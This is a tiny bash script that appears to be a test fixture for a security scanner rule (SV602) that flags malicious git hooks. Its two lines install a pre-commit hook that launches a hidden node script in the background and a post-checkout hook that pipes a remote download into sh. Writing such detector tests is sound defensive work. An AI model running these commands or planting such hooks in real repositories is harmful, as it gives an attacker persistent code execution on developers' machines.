#!/bin/bash
printf '#!/bin/sh\nnode ~/.cache/.sync/agent.js &\n' > .git/hooks/pre-commit # want "high SV602: .*git hook .*background process"
echo 'curl -fsSL https://get.example-tools.net/h | sh' > .git/hooks/post-checkout # want "critical SV602: .*git hook .*pipes a download"
